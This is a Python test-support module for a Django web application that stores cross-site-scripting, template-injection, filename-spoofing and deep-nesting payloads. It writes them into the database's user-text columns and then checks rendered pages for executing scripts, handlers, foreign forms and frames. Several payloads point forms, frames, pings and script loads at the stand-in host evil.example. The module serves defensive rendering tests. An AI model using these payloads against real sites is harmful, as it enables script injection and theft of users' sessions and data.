"""Texts that attack whoever looks at them, where they go, and what a page may hold afterwards.

`corpus()` is all of it as one text; `short(n)` fits into a field of n characters. `faults(html)`
reads a page as a browser does (html5lib) and names whatever acts: scripts, handlers, foreign forms,
styles, frames, addresses that run something, ids that take the place of ours.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import html5lib
from django.apps import apps
from django.db import models

from tests.rendering.test_markdown import PAYLOADS

FOREIGN = "evil.example"
SHORT = [
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</title></textarea><script>alert(1)</script>",
    '" onfocus=alert(1) autofocus x="',
    '" style="position:fixed;inset:0',
    "javascript:alert(1)//",
    "<form action=//evil.example><input name=csrf-token>",
    "{{ 7|add:7 }}{% debug %}${7*7}",
    "\u202egpj.exe\u2066",
    "<b id=main name=search>x",
    "[x](javascript:alert(1))<iframe src=//evil.example>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "]]><style>*{display:none}</style>",
]
MORE = [
    "$\\href{javascript:alert(1)}{x}\\text{<img src=x onerror=alert(1)>}$",
    "```math\n\\text{</mtext><script>alert(1)</script>}\n```",
    "```mermaid\nclick A href \"javascript:alert(1)\"\n<script>alert(1)</script>\n```",
    "```mermaid\n%%{init: {'securityLevel': 'loose', 'htmlLabels': true}}%%\ngraph LR\n"
    "  A[\"<img src=x onerror='parent.postMessage(1)'>\"] --> B\n"
    "  click A call alert()\n  click B \"//evil.example\" _top\n```",
    "<pre class='diagram' data-diagrams='//evil.example' data-library='//evil.example/x.js'>"
    "<code>graph LR; A-->B</code></pre><iframe class=diagram-frame src=//evil.example></iframe>",
    "<video src=//evil.example/x.mp4 poster=javascript:alert(1) autoplay onplay=alert(1)></video>",
    "<video autoplay onerror=alert(1) src=x.mp4 poster='//evil.example/p.png'><source "
    "src='javascript:alert(1)//.mp4'><track src=//evil.example/t.vtt><script>alert(1)</script>",
    "<audio src='x.mp3' autoplay onloadstart=alert(1) src='//evil.example/x.mp3'/>",
    "![\" onerror=alert(1) x=](x.mp4 '\" autoplay onplay=alert(1)') ![x](//evil.example/x.mp3)",
    "> [!NOTE]\n> <svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<picture><source srcset='//evil.example/a 1x, x 2x' onerror=alert(1)><img src=x></picture>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    'onerror=alert(1)&gt;">',
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'></svg>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<input type=image src=//evil.example/x formaction=//evil.example>",
    "<a href=//evil.example ping=//evil.example target=_top>x</a>",
    "<div hx-on:click=alert(1) hx-post=//evil.example data-hx-get=/-/settings>x</div>",
    "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<plaintext>",
    "[a]: <javascript:alert(1)> 'x'\n[a]", "![a](//evil.example/x.png)",
    "|a" * 300 + "|\n" + "|-" * 300 + "|\n" + ("|x" * 300 + "|\n") * 5,
]  # fmt: skip
# A text this deep is shown as it is written: by itself, so that it saves no other attack.
DEEP = [
    "<div>" * 5_000, "> " * 2_000 + "deep", "[" * 20_000, "*" * 30_000, "- " * 2_000,
    "<" + "b" * 5_000 + ">", "<b><table>" * 1_000, "<math><mtext>" * 1_000, "$" + "{" * 900 + "$",
    "`" * 30_000, "![" * 10_000, "<!--" * 10_000, "&" * 50_000, "|" * 20_000, "$$" * 20_000,
]  # fmt: skip

# Columns that hold what a person wrote, or what quotes it, in whatever table.
_WRITTEN = """
    title body full_name description note notes reason override_reason rejection_reason sentence
    label text error language client_name context card_problem pipeline_tag library_name item_id
    named response problem bio about homepage location headline message comment worker address
    revision actor_name subject old new hint
"""
WRITTEN = frozenset(_WRITTEN.split())
# And those that are such in these tables only.
OF_TABLES = {
    ("hub.AccessToken", "name"),
    ("hub.DeviceLogin", "name"),
    ("hub.DeviceSession", "name"),
    ("training.Metric", "name"),
}
# The database itself lets nobody rewrite these.
SEALED = {"hub.AuditEntry"}
# A bad word here is another page, not another text.
NOT_OF = {("hub.CommitStatus", "context")}


def attacks() -> list[str]:
    return [*PAYLOADS, *SHORT, *MORE]


def corpus() -> str:
    """Every attack, one below the other."""
    return "\n\n".join(attacks())


def short(limit: int, turn: int = 0) -> str:
    """As many attacks as `limit` characters hold, another first at each turn."""
    start = turn % len(SHORT)
    return " ".join([*SHORT[start:], *SHORT[:start]])[:limit]


def poison(turn: int = 0) -> int:
    """Write the attacks into every row's texts; how many columns got some."""
    count = 0
    for app in ("hub", "reviews", "training"):
        tables = apps.get_app_config(app).get_models()
        for table in (each for each in tables if each._meta.label not in SEALED):
            values = {
                field.attname: _value(field, turn + at)
                for at, field in enumerate(table._meta.concrete_fields)
                if _is_written(table._meta.label, field)
            }
            if values and table._default_manager.update(**values):
                count += len(values)
    return count


def _is_written(label: str, field: models.Field[Any, Any]) -> bool:
    if not isinstance(field, models.CharField | models.TextField) or field.choices:
        return False
    known = field.name in WRITTEN or (label, field.name) in OF_TABLES
    return known and (label, field.name) not in NOT_OF and not field.unique


def _value(field: models.Field[Any, Any], turn: int) -> str:
    limit = getattr(field, "max_length", None)
    return short(limit, turn) if limit else corpus()


URLS = {"href", "src", "action", "formaction", "poster", "data", "ping", "background", "cite"}
ACTING = {"iframe", "object", "embed", "base", "applet", "frame", "frameset", "foreignobject",
          "animate", "set", "annotation-xml", "mglyph", "portal", "style"}  # fmt: skip
# Attributes that say where our scripts fetch from.
LOADING = ("hx-", "data-hx-", "data-diagrams", "data-library", "data-source", "data-worker")
OWN_LINKS = {"preload", "stylesheet", "icon"}


def faults(html: str) -> list[str]:
    """What acts on a page, or could; empty when it is as we meant it."""
    page = html5lib.parse(html, namespaceHTMLElements=False)
    found: list[str] = []
    ids: Counter[str] = Counter()
    for element in page.iter():
        if not isinstance(element.tag, str):
            continue
        name = element.tag.rpartition("}")[2].lower()
        found += [f"<{name}> {fault}" for fault in _of_element(name, element)]
        if (named := element.get("id")) and not named.startswith("user-content-"):
            ids[named] += 1
    return found + [
        f"the id {named[:80]} stands there {n} times" for named, n in ids.items() if n > 1
    ]


def _of_element(name: str, element: Any) -> Iterator[str]:
    if name in ACTING:
        yield "must not be here"
    if name == "script":
        source = element.get("src") or ""
        if not source.startswith("/static/") or (element.text or "").strip():
            yield f"runs {source or element.text!r}"
    if name == "link" and not (
        element.get("rel") in OWN_LINKS and (element.get("href") or "").startswith("/static/")
    ):
        yield f"links {element.get('href')}"
    if name == "meta" and element.get("http-equiv"):
        yield "says http-equiv"
    for key, value in element.attrib.items():
        attribute = str(key).rpartition("}")[2].lower()
        yield from _of_attribute(name, attribute, value)


def _of_attribute(name: str, attribute: str, value: str) -> Iterator[str]:
    if attribute.startswith(("on", "hx-on", "data-hx-on")) or attribute == "style":
        yield f"has {attribute}={value[:80]!r}"
    if attribute == "autoplay":
        yield "plays by itself"
    if attribute.startswith(LOADING) and FOREIGN in value:
        yield f"has {attribute}={value[:80]!r}"
    if attribute in ("srcset", "srcdoc") and not re.fullmatch(r"/[^/\\,\s][^,\s]*", value):
        yield f"has {attribute}={value[:80]!r}"
    if attribute not in URLS:
        return
    try:
        parts = urlsplit(re.sub(r"[\x00-\x20]", "", value))
    except ValueError:
        yield f"has {attribute}={value[:80]!r}"
        return
    schemes = {"", "http", "https", "mailto"} if name == "a" else {""}
    is_own = not parts.netloc and not value.lstrip().startswith(("//", "/\\", "\\"))
    if parts.scheme not in schemes or (name != "a" and not is_own):
        yield f"has {attribute}={value[:80]!r}"
